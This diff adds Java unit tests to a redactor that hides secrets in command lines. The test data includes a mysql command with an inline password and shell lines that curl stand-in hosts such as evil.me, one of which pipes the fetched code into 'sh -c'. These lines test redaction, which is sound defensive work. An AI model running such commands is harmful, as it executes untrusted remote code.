@@ -427,4 +427,29 @@ class RedactorTest {
     assertThat(redaction.hidden()).isPresent();
     assertThat(work.done()).isZero();
   }
+
+  /** What was withheld once stays so, whatever else is found in it later. */
+  @Test
+  void aLineThatWasWithheldIsNeverAskedAboutForAnotherSecret() {
+    for (String line :
+        List.of(
+            "<secret:line>",
+            "deploy --fast <secret:line>",
+            "mysql --password=Tr0ub4dor9 -e status <secret:line>")) {
+      assertThat(new Redactor().read(line).hidden()).as(line).isPresent();
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "export TOKEN=bit.ly/x7Qp2; sh -c \"$(curl $TOKEN)\"",
+        "export TOKEN=evil.me:8443/x7Qp2; curl $TOKEN",
+        "export TOKEN=cdn.evil.co.uk/x7Qp2; curl $TOKEN"
+      })
+  void anAddressWithoutASchemeIsHiddenInEveryZone(String line) {
+    Redaction redaction = new Redactor().read(line);
+    assertThat(redaction.removed()).isEqualTo(1);
+    assertThat(redaction.hidden()).isPresent();
+  }
 }
